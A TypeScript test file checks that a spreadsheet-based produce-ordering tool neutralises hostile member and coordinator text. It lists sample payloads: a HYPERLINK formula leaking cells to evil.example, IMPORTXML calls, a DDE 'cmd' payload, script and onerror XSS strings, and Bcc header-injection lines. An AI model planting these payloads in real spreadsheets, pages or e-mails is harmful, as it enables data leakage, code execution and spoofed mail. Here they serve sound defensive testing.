// Hostile text in every free-text field and coordinator cell: formulas, CSV injection, HTML,
// header injection, very long strings, emoji, accents and right-to-left marks. Nothing is
// executed or interpreted: no cell becomes a formula, text reads back as it was, the HTML part
// escapes it, no header is added, the producer's CSV neutralises formulas.
import type { CabasDriver } from '../../src/cli/cabas-driver';
import { toEml } from '../../src/cli/export/write-eml';
import type { SentMessage } from '../../src/local-apps-script/mail/sent-message';
import {
  DEADLINE_MS, HOUR, MONCLAR, OPEN_AT, SEPTFONDS, closeAndDeliver, failedExecutions, formulasIn, openGroup, setCell, setSetting, tabRows, twoSitesSmallGroup,
} from './support/reliability-group';

const LONG = 'Lorem ipsum dolor sit amet. '.repeat(358).slice(0, 10_000);
export const HOSTILE = [
  { name: 'a hyperlink formula', text: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")' },
  { name: 'an IMPORTXML formula', text: '=IMPORTXML("http://evil.example/x","//a")' },
  { name: 'a leading plus', text: '+SUM(1;2)' },
  { name: 'a leading minus', text: '-2+3' },
  { name: 'a leading at sign', text: '@SUM(A1:A9)' },
  { name: 'a DDE payload', text: "=cmd|' /C calc'!A0" },
  { name: 'a script tag', text: '<script>alert("x")</script>' },
  { name: 'an HTML attribute', text: '"><img src=x onerror=alert(1)>' },
  { name: 'a header injection', text: 'Nom\r\nBcc: victim@evil.example' },
  { name: 'a bare line feed', text: 'ligne 1\nligne 2' },
  { name: 'CSV separators and quotes', text: 'a;b,"c"\r\nd' },
  { name: 'emoji', text: '👩‍🌾 Légumes 🍅🥕' },
  { name: 'accents', text: 'Œufs Ça Ürün ñandú' },
  { name: 'right-to-left marks', text: '\u202Egnp.exe\u202C \u200Fשלום\u200E' },
  { name: 'a very long string', text: LONG },
];

const MEMBER_NAME = '=HYPERLINK("http://evil.example","Alice")\r\nBcc: victim@evil.example';
const PRODUCER_NAME = '=IMPORTXML("http://e.example","//a") <b>Ferme</b>';
const PRODUCT_NAME = '<script>alert(1)</script> Tomates 🍅';
const GROUP_NAME = 'GAC <i>Deux</i> Villages\r\nBcc: victim@evil.example';
const SITE_NAME = '@Monclar\u202E';

/** The two-sites group whose coordinator cells hold hostile text (as volunteers might paste it). */
function hostileWorkbook() {
  const snapshot = twoSitesSmallGroup();
  setSetting(snapshot, 'Nom du groupement', GROUP_NAME);
  setCell(snapshot, 'Adhérents', 1, 'Nom', MEMBER_NAME);
  setCell(snapshot, 'Adhérents', 1, 'Notes', '-1+1 <script>');
  setCell(snapshot, 'Adhérents', 2, 'Nom', LONG);
  setCell(snapshot, 'Adhérents', 3, 'Nom', '\u202EChloé\u200F 👩‍🌾');
  for (const [tab, col] of [['Producteurs', 'Producteur'], ['Produits', 'Producteur']] as const) {
    const sheet = snapshot.sheets.find((s) => s.name === tab)!;
    const c = sheet.values[0].indexOf(col);
    for (const row of sheet.values.slice(1)) if (row[c] === 'Ferme du Ruisseau') row[c] = PRODUCER_NAME;
  }
  setCell(snapshot, 'Producteurs', 1, 'Règlement', '=HYPERLINK("http://pay.evil.example","Payer")');
  setCell(snapshot, 'Producteurs', 1, 'Note', '<img src=x onerror=alert(1)>');
  setCell(snapshot, 'Produits', 1, 'Produit', PRODUCT_NAME);
  setCell(snapshot, 'Produits', 1, 'Description', '+33 6 12 34 56 78');
  setCell(snapshot, 'Produits', 1, 'Unité', '@kg');
  for (const tab of ['Lieux', 'Adhérents']) {
    const sheet = snapshot.sheets.find((s) => s.name === tab)!;
    const c = sheet.values[0].indexOf('Lieu');
    for (const row of sheet.values.slice(1)) if (row[c] === MONCLAR) row[c] = SITE_NAME;
  }
  setCell(snapshot, 'Lieux', 1, 'Adresse', '=IMPORTXML("http://e.example","//a")');
  return snapshot;
}

function headersOf(message: SentMessage): string[] {
  const eml = toEml(message);
  return eml.slice(0, eml.indexOf('\r\n\r\n')).split('\r\n');
}

describe('hostile text typed by members', () => {
  let driver: CabasDriver;
  const comments = new Map<string, string>();

  beforeAll(() => {
    driver = openGroup();
    const people = ['alice', 'bruno', 'chloe', 'david', 'emma'];
    HOSTILE.forEach(({ text }, i) => {
      const who = `${people[i % people.length]}@example.org`;
      driver.submit(who, { 'LEG-TOM': 1 + (i % 3) }, { site: i % 2 ? MONCLAR : SEPTFONDS, comment: text, at: OPEN_AT + (i + 1) * HOUR });
      comments.set(who, text); // latest wins
    });
    closeAndDeliver(driver);
  });

  test('no trigger fails on any of them', () => {
    expect(failedExecutions(driver)).toEqual([]);
  });

  test('no cell of any tab becomes a formula', () => {
    expect(formulasIn(driver.snapshot())).toEqual([]);
  });

  test.each(HOSTILE)('$name in a comment reads back as it was in Commandes', ({ text }) => {
    expect(tabRows(driver, 'Commandes').map((r) => r['Commentaire'])).toContain(text);
  });

  test('every comment is escaped in the HTML part of the confirmation', () => {
    for (const m of driver.gas.mail.sent.filter((x) => x.htmlBody)) {
      expect(m.htmlBody).not.toMatch(/<script|<img/i);
    }
    const withScript = driver.gas.mail.sent.find((m) => m.body.includes('<script>alert("x")</script>'));
    expect(withScript?.htmlBody).toContain('&lt;script&gt;');
  });
});

describe('hostile text in the coordinator’s cells', () => {
  let driver: CabasDriver;

  beforeAll(() => {
    driver = openGroup({ snapshot: hostileWorkbook() });
    driver.submit('alice@example.org', { 'LEG-TOM': 2, 'HUI-NOI': 6 }, { site: SITE_NAME, comment: '=1+1', at: OPEN_AT + HOUR });
    driver.submit('bruno@example.org', { 'LEG-TOM': 1, 'LEG-PAN': 1 }, { site: SITE_NAME, at: OPEN_AT + 2 * HOUR });
    driver.submit('chloe@example.org', { 'LEG-TOM': '0,5' }, { site: SEPTFONDS, at: OPEN_AT + 3 * HOUR });
    closeAndDeliver(driver);
  });

  test('the cycle opens, takes orders, closes and sends with no trigger failing', () => {
    expect(failedExecutions(driver)).toEqual([]);
    expect(driver.gas.mail.sent.some((m) => m.attachments.length > 0)).toBe(true);
  });

  test('no cell of any tab becomes a formula, generated tabs included', () => {
    expect(formulasIn(driver.snapshot())).toEqual([]);
  });

  test.each([
    { what: 'a member name', text: MEMBER_NAME, column: 'Adhérent' },
    { what: 'a 10,000-character name', text: 'Lorem ipsum dolor sit amet. '.repeat(358).slice(0, 10_000), column: 'Adhérent' },
    { what: 'a producer name', text: PRODUCER_NAME, column: 'Producteur' },
    { what: 'a product name', text: PRODUCT_NAME, column: 'Produit' },
    { what: 'a site name', text: SITE_NAME, column: 'Lieu' },
  ])('$what reads back as it was in Commandes', ({ text, column }) => {
    expect(tabRows(driver, 'Commandes').map((r) => r[column])).toContain(text);
  });

  test('no e-mail gains a header: subjects and sender names hold no line break', () => {
    for (const m of driver.gas.mail.sent) {
      expect(m.subject).not.toMatch(/[\r\n]/);
      expect(m.name).not.toMatch(/[\r\n]/);
    }
  });

  test('the .eml writer adds no Bcc header whatever the name and subject hold', () => {
    for (const m of driver.gas.mail.sent) {
      const headers = headersOf(m);
      expect(headers.filter((h) => /^bcc:/i.test(h))).toEqual([]);
      expect(headers.every((h) => /^[A-Za-z-]+: |^\s/.test(h))).toBe(true);
    }
    // Even a message whose fields were not cleaned upstream.
    const raw = { ...driver.gas.mail.sent[0], subject: 'x\r\nBcc: victim@evil.example', name: 'y\nBcc: victim@evil.example' };
    expect(headersOf(raw).filter((h) => /^bcc:/i.test(h))).toEqual([]);
  });

  test('the HTML parts escape the coordinator’s HTML', () => {
    for (const m of driver.gas.mail.sent) expect(m.htmlBody).not.toMatch(/<script|<img|<b>Ferme|<i>Deux/i);
    expect(driver.gas.mail.sent.some((m) => m.htmlBody.includes('&lt;script&gt;'))).toBe(true);
  });

  test('the producer’s CSV neutralises formulas and keeps separators inside quoted fields', () => {
    const producer = driver.gas.mail.sent.find((m) => m.to === 'ruisseau@example.org')!;
    const csv = Buffer.from(producer.attachments[0].bytes).toString('utf8').replace(/^\uFEFF/, '');
    const fields = parseCsv(csv, ';');
    const cells = fields.flat();
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(cells.some((c) => c.startsWith(`'${PRODUCER_NAME}`))).toBe(true);
    expect(cells.some((c) => c.startsWith("'=IMPORTXML"))).toBe(true);
    expect(new Set(fields.map((r) => r.length)).size).toBe(1);
  });

  test('a producer tab is made for the hostile producer name, short and free of forbidden characters', () => {
    const names = driver.snapshot().sheets.map((s) => s.name);
    for (const n of names) {
      expect(n.length).toBeLessThanOrEqual(31);
      expect(n).not.toMatch(/['!:\\/?*[\]\r\n]/);
    }
    expect(names.some((n) => n.includes('IMPORTXML'))).toBe(true);
    expect(DEADLINE_MS).toBeGreaterThan(OPEN_AT);
  });
});

/** RFC 4180 fields of a CSV text (quotes, doubled quotes, CRLF inside quotes). */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) { row.push(field); field = ''; } else if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 1; } else field += ch;
  }
  return rows;
}
